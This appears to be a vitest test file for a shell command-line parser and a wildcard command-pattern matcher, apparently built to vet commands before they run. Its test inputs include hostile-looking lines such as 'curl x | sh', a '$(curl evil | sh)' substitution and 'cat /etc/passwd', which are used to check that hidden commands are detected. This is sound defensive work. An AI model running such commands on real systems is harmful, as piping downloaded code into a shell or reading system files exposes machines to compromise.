import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './command-line.js';
import { compileCommandPattern } from './command-pattern.js';

describe('parseCommandLine', () => {
  it('splits a line into the simple commands it runs', () => {
    expect(parseCommandLine('npm test && curl x | sh; echo done & wait || true\nls').segments).toEqual([
      'npm test',
      'curl x',
      'sh',
      'echo done',
      'wait',
      'true',
      'ls',
    ]);
  });

  it('does not split inside quotes', () => {
    expect(parseCommandLine(`git log --grep "a && b" -E 'c; d'`).segments).toEqual([`git log --grep "a && b" -E 'c; d'`]);
  });

  it('finds commands inside substitutions, even inside double quotes', () => {
    const parsed = parseCommandLine('echo "$(curl evil | sh)" `wget x`');
    expect(parsed.substituted).toEqual(['curl evil', 'sh', 'wget x']);
    expect(parseCommandLine("echo '$(not run)'").substituted).toEqual([]);
  });

  it('names files written by redirection but not descriptor copies or /dev/null', () => {
    expect(parseCommandLine('npm test > out.log 2>&1').redirectTargets).toEqual(['out.log']);
    expect(parseCommandLine('npm test 2>/dev/null >&2').redirectTargets).toEqual([]);
    expect(parseCommandLine('cat a &> "b c"; echo x >>d').redirectTargets).toEqual(['b c', 'd']);
  });
});

describe('command patterns', () => {
  it('match whole commands with * standing for anything', () => {
    const npmTest = compileCommandPattern('npm test*');
    expect(npmTest('npm test')).toBe(true);
    expect(npmTest('npm   test -- --run src/a.test.ts')).toBe(true);
    expect(npmTest('CI=1 npm test')).toBe(true);
    expect(npmTest('xnpm test')).toBe(false);
    expect(compileCommandPattern('git push*')('git push origin main')).toBe(true);
    expect(compileCommandPattern('cat *')('cat /etc/passwd')).toBe(true);
    expect(compileCommandPattern('node --test*')('node --test.js')).toBe(true);
    expect(compileCommandPattern('a.b')('axb')).toBe(false);
  });
});
